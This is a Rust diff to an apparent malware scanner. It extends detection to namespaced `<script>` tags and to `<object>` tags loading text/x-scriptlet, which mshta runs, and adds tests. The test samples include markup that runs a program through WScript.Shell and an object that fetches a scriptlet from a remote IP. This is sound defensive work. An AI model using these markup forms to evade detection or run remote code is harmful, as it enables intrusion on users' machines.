@@ -23,8 +23,22 @@ pub const MAX_TAG_TRIES: usize = 8;
 /// per file; a file crafted to hold more gets a warning.
 pub const MAX_MARKUP_CANDIDATES: usize = 4096;
 
-/// What opens a candidate; each is confirmed by what surrounds it.
-const NEEDLES: [&str; 4] = ["<script", "<hta:application", "script:", "scriptlet:"];
+/// What opens a candidate; each is confirmed by what surrounds it. `:script` is a script
+/// element with a namespace prefix (`<svg:script>`, `<x:script>`), which XHTML and SVG
+/// documents and Internet Explorer's engine (mshta's) run as `<script>`; the MIME types
+/// are an `<object>` of a scriptlet, which that engine loads and runs.
+const NEEDLES: [&str; 7] = [
+    "<script",
+    "<hta:application",
+    "script:",
+    "scriptlet:",
+    ":script",
+    "/scriptlet",
+    "/x-scriptlet",
+];
+
+/// How far back from a scriptlet MIME type the `<object` of its tag is looked for.
+const SCRIPTLET_TAG_BYTES: usize = 1024;
 
 /// Event handlers (any of them runs script: most on their own, the rest on a click or a
 /// key that an HTA's user gives it).
@@ -432,6 +446,70 @@ fn confirm_needle(text: &[u8], before: &dyn Fn(usize) -> Vec<u8>) -> Option<Stri
             ));
         }
         return None;
+    }
+    if let Some(rest) = lower.strip_prefix(b":script") {
+        // `<prefix:script>`: the tag name must end there, and a tag opening with a name
+        // (XML name characters) must come just before the colon.
+        let next = *rest.first()?;
+        let ends = next == b'>' || next == b'/' || next.is_ascii_whitespace();
+        let back = before(64);
+        let prefix = back
+            .iter()
+            .rev()
+            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
+            .count();
+        let opens = prefix > 0 && back.len() > prefix && back[back.len() - prefix - 1] == b'<';
+        if ends && opens {
+            let start = back.len() - prefix - 1;
+            let mut shown = back[start..].to_vec();
+            shown.extend_from_slice(text);
+            return Some(format!(
+                "a namespaced <script> tag (\"{}\"): XHTML, SVG and mshta run it as <script> when the file is rendered",
+                excerpt(&shown)
+            ));
+        }
+        return None;
+    }
+    if lower.starts_with(b"/scriptlet") || lower.starts_with(b"/x-scriptlet") {
+        // `<object type="text/x-scriptlet" data=...>`: the value of the `type` attribute
+        // of an `<object>` tag still open (no `>` since its `<object`).
+        let end = lower
+            .iter()
+            .position(|&b| !(b.is_ascii_alphanumeric() || matches!(b, b'/' | b'-')))?;
+        let mime = &lower[..end];
+        if !(mime == b"/scriptlet" || mime == b"/x-scriptlet")
+            || !matches!(lower[end], b'"' | b'\'' | b'>' | b'/')
+                && !lower[end].is_ascii_whitespace()
+        {
+            return None;
+        }
+        let back = before(SCRIPTLET_TAG_BYTES).to_ascii_lowercase();
+        let value = back.strip_suffix(b"text")?;
+        let value = value
+            .strip_suffix(b"\"")
+            .or(value.strip_suffix(b"'"))
+            .unwrap_or(value);
+        let value = value.trim_ascii_end().strip_suffix(b"=")?.trim_ascii_end();
+        let tag_start = value.strip_suffix(b"type")?;
+        if !tag_start
+            .last()
+            .is_some_and(|b| b.is_ascii_whitespace() || *b == b'"' || *b == b'\'')
+        {
+            return None;
+        }
+        let open = memchr::memmem::rfind(tag_start, b"<object")?;
+        if memchr::memchr(b'>', &tag_start[open..]).is_some()
+            || !tag_start
+                .get(open + 7)
+                .is_some_and(|b| b.is_ascii_whitespace() || *b == b'/')
+        {
+            return None;
+        }
+        return Some(format!(
+            "an <object> of type text{} (\"{}\"): Internet Explorer's engine, which mshta uses, loads and runs the scriptlet it names when the file is rendered as HTML",
+            escape_bytes(&text[..end]),
+            excerpt(&back[open..])
+        ));
     }
     if lower.starts_with(b"<hta:application") {
         return Some(
@@ -855,6 +933,37 @@ fn excerpt(text: &[u8]) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// Issue 10: a script element with a namespace prefix and an `<object>` of a
+    /// scriptlet run script in mshta (Internet Explorer's engine) and got no alert.
+    #[test]
+    fn namespaced_script_elements_and_scriptlet_objects_run() {
+        for markup in [
+            &b"\x00\x01<x:script>new ActiveXObject('WScript.Shell').Run('calc')</x:script>"[..],
+            b"<svg:script type=\"text/ecmascript\">alert(1)</svg:script>",
+            b"<HTML:SCRIPT language=vbscript>x</HTML:SCRIPT>",
+            b"<object type=\"text/x-scriptlet\" data=\"http://203.0.113.7/a.sct\"></object>",
+            b"<object\ttype='text/scriptlet' width=0 data=a.sct>",
+            b"<OBJECT data=\"a.sct\" TYPE = text/x-scriptlet></OBJECT>",
+        ] {
+            let found = find_markup(markup).expect("found");
+            assert_eq!(found.severity, Severity::Alert, "{found:?}");
+            let wide: Vec<u8> = markup.iter().flat_map(|&b| [b, 0]).collect();
+            assert!(find_active_markup(&wide).is_some(), "UTF-16 {found:?}");
+        }
+        for text in [
+            // Prose and other attributes: no script element, no scriptlet object.
+            &b"Protocol: script review; see appendix:script notes"[..],
+            b"<a:scripts>x</a:scripts>",
+            b"a :script> here",
+            b"<embed type=\"text/x-scriptlet\">",
+            b"<object type=\"text/x-scriptlets\">",
+            b"<object width=1>type=\"text/x-scriptlet\"",
+            b"text/x-scriptlet is a MIME type",
+        ] {
+            assert_eq!(find_markup(text), None, "{}", String::from_utf8_lossy(text));
+        }
+    }
 
     #[test]
     fn script_tags_and_handlers_are_found_in_any_case_and_encoding() {
